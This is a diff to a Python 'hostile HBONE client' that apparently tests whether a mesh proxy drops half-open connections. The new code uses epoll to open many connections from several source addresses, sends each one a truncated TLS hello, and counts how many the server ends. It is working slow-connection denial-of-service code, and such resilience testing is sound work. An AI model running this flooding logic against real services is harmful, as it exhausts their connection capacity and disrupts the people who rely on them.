@@ -1,6 +1,7 @@
 """A hostile HBONE client with a good certificate, or none at all; prints how far it came."""
 
 import argparse
+import select
 import socket
 import ssl
 import time
@@ -136,34 +137,40 @@ def half_open(arguments):
         pass
     hello = outgoing.read()
     to = hbone.address(arguments.to)
-    held, ended = [], 0
+    open_ones, poll, ended = {}, select.epoll(), 0
+    deadline = time.monotonic() + arguments.seconds
+
+    def look(patience):
+        """Speaks on those connected meanwhile, and drops those that the server ended."""
+        nonlocal ended
+        for number, events in poll.poll(patience):
+            connection = open_ones[number]
+            try:
+                if events & select.EPOLLOUT:
+                    # Each a part of its own length, and then nothing more.
+                    connection.send(hello[: 1 + number % (len(hello) - 1)])
+                    poll.modify(number, select.EPOLLIN)
+                elif connection.recv(4096) == b"":
+                    raise ConnectionError
+            except OSError:
+                ended += 1
+                poll.unregister(number)
+                open_ones.pop(number).close()
+
     for number in range(arguments.count):
         connection = socket.socket()
         connection.setblocking(False)
         connection.setsockopt(socket.SOL_IP, socket.IP_BIND_ADDRESS_NO_PORT, 1)
         connection.bind((arguments.sources[number % len(arguments.sources)], 0))
         connection.connect_ex(to)
-        held.append(connection)
-        # Those connected meanwhile begin to speak.
-        if len(held) % 100 == 0:
-            ended += speak(held[-200:], hello[: 1 + number % (len(hello) - 1)])
-        if len(held) > arguments.at_once:
-            for old in held[: arguments.at_once // 4]:
-                old.close()
-            del held[: arguments.at_once // 4]
-    hbone.say(attack=arguments.what, sent=arguments.count, end=f"{ended} ended")
-
-
-def speak(connections, part):
-    ended = 0
-    for connection in connections:
-        try:
-            connection.send(part)
-        except BlockingIOError:
-            pass
-        except OSError:
-            ended += 1
-    return ended
+        open_ones[connection.fileno()] = connection
+        poll.register(connection, select.EPOLLOUT)
+        if number % 100 == 0:
+            look(0)
+    # What is let in stays; everything else ends.
+    while len(open_ones) > arguments.let_in and time.monotonic() < deadline:
+        look(0.1)
+    hbone.say(attack=arguments.what, sent=arguments.count, ended=ended, open=len(open_ones))
 
 
 def main():
@@ -178,7 +185,8 @@ def main():
     parser.add_argument("--authority", default="")
     parser.add_argument("--identity", default="shop/peer")
     parser.add_argument("--sources", nargs="*", help="own addresses to connect from")
-    parser.add_argument("--at-once", type=int, default=2000, help="connections held at a time")
+    parser.add_argument("--let-in", type=int, default=0, help="connections that may stay open")
+    parser.add_argument("--seconds", type=float, default=30, help="how long to wait for the others to end")
     arguments = parser.parse_args()
     by_name[arguments.what](arguments)
 
